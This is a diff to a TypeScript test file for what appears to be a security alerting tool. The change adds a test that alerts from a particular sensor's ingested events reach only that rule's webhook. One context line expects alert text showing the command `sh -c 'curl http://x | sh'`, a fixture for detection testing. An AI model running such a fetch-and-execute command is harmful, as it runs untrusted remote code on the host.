@@ -1,11 +1,16 @@
 import { createHmac } from "node:crypto";
+import { readFileSync } from "node:fs";
+import path from "node:path";
+import { Readable } from "node:stream";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import type { z } from "zod";
 import type { Actor } from "../auth/admin-outcome";
+import { issueApiToken } from "../auth/api-tokens";
 import { seedAlert, seedRule } from "../db/alert-test-fixtures";
 import { prisma } from "../db/client";
 import { syncBuiltinRules } from "../db/rules";
 import { setUpTestDatabase } from "../db/test-database-hooks";
+import { ingestEvents } from "../ingest/ingest";
 import { loadBuiltinRules } from "../rules/load";
 import { loadSample } from "../samples/sample-data";
 import { createChannel } from "./channels-admin";
@@ -291,6 +296,36 @@ describe("Slack-compatible delivery", () => {
     expect(text).toContain("Command line: `sh -c 'curl http://x | sh'`");
     expect(text).toContain(`<https://keelwatch.example.com/alerts/${alert.id}|Open the alert in Keelwatch>`);
     expect(hook.requests[0]?.headers["idempotency-key"]).toBeTruthy();
+  });
+});
+
+describe("sensor sources", () => {
+  it("sends only alerts raised by events that the rule's sensor tokens sent", async () => {
+    const hook = await receiver();
+    const channel = await channelOrThrow({ name: "sensors", kind: "webhook", url: `${hook.url}/in` });
+    const sensor = await issueApiToken({ name: "sensor-a", role: "ingest", expiresAt: null, createdById: null });
+    await ruleOrThrow({ name: "from sensor-a", sources: [sensor.id], channelIds: [channel.id] });
+
+    const events = readFileSync(
+      path.join(import.meta.dirname, "..", "..", "e2e", "fixtures", "ecs-cloud-defend.ndjson"),
+    );
+    const fromSensor = await ingestEvents(Readable.from([events]), {
+      fileName: "sensor.ndjson",
+      format: "auto",
+      createdById: null,
+      apiTokenId: sensor.id,
+    });
+    await prisma().alert.deleteMany({ where: { uploadId: { not: fromSensor.uploadId } } });
+    const fromPerson = await loadSample("falco", { id: null, label: "test" });
+    expect(await prisma().alert.count({ where: { uploadId: fromPerson.uploadId ?? "" } })).toBeGreaterThan(0);
+    const upload = await prisma().upload.findUniqueOrThrow({ where: { id: fromSensor.uploadId } });
+    expect(upload.apiTokenId).toBe(sensor.id);
+
+    await drain();
+    const sensorAlerts = await prisma().alert.findMany({ where: { uploadId: fromSensor.uploadId } });
+    expect(sensorAlerts.length).toBeGreaterThan(0);
+    const sent = hook.requests.flatMap((r) => WebhookPayloadSchema.parse(JSON.parse(r.body)).alerts.map((a) => a.id));
+    expect(sent.sort()).toEqual(sensorAlerts.map((alert) => alert.id).sort());
   });
 });
 
